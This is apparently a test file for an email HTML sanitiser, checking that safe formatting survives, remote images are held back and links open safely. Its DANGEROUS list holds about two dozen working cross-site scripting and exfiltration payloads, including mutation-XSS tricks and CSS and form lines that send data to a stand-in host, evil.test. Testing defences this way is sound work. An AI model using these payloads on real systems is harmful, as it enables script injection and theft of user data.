import assert from 'node:assert/strict';
import { test } from 'node:test';
import { SANITISER_VERSION, sanitiseHtml } from './sanitise-html.ts';

const clean = (html: string): string => sanitiseHtml(html).html;

test('the words and the look of a mail stay', () => {
  const html =
    '<p style="color: #333; margin: 0 0 8px"><b>Hej</b> <i>då</i></p><table><tbody><tr><td bgcolor="#eee">1</td></tr></tbody></table>';
  assert.equal(clean(html), html);
  assert.equal(sanitiseHtml(html).version, SANITISER_VERSION);
});

const DANGEROUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test"><input name=a><button>x</button></form>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<style>input[value^=a]{background:url(https://evil.test)}</style>',
  '<p style="background:url(https://evil.test/a)">x</p>',
  '<p style="background:u\\72l(https://evil.test/a)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="display:none">hidden</p><p style="visibility:hidden">hidden</p><p style="font-size:0">hidden</p><p style="opacity:0">hidden</p>',
  '<img srcset="https://evil.test/a 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<video poster="https://evil.test/a"></video><audio src="https://evil.test/a" autoplay></audio>',
  '<table background="https://evil.test/a"><tr><td background="https://evil.test/b">x</td></tr></table>',
  '<input value="<img src=x onerror=alert(1)>"><textarea></textarea><img src=x onerror=alert(1)>',
  '<object data="https://evil.test"></object><embed src="https://evil.test">',
  '<img src="https://evil.test/a" usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
];

for (const html of DANGEROUS) {
  test(`nothing runs, loads or covers in ${html.slice(0, 60)}`, () => {
    const out = clean(html);
    assert.doesNotMatch(out, /<(?:script|style|svg|math|iframe|form|input|base|meta|link|object|embed|video|audio|area)\b/i);
    assert.doesNotMatch(out, /\son\w+\s*=|javascript:|url\(|expression|position|display:\s*none|visibility|opacity|font-size/i);
    assert.doesNotMatch(out, /(?:^|[\s"])(?:src|srcset|background|poster|data|action)="(?!data:image\/)/i);
  });
}

test('remote images are counted and wait, pictures of the mail itself are marked', () => {
  const { html, remoteImages } = sanitiseHtml(
    '<img src="https://shop.test/a.png" alt="a"><img src="cid:photo%40x"><img src="data:image/png;base64,iVBORw==">',
  );
  assert.equal(remoteImages, 1);
  assert.equal(
    html,
    '<img alt="a" data-remote-src="https://shop.test/a.png"><img data-cid="photo@x"><img src="data:image/png;base64,iVBORw==">',
  );
});

test('a mail cannot bring the marks of the viewer itself', () => {
  assert.equal(clean('<img data-cid="x" data-remote-src="javascript:1" alt="a">'), '<img alt="a">');
});

test('links open elsewhere and tell nothing', () => {
  assert.equal(
    clean('<a href="https://shop.test/a" target="_top">x</a>'),
    '<a href="https://shop.test/a" rel="noopener noreferrer" target="_blank">x</a>',
  );
});
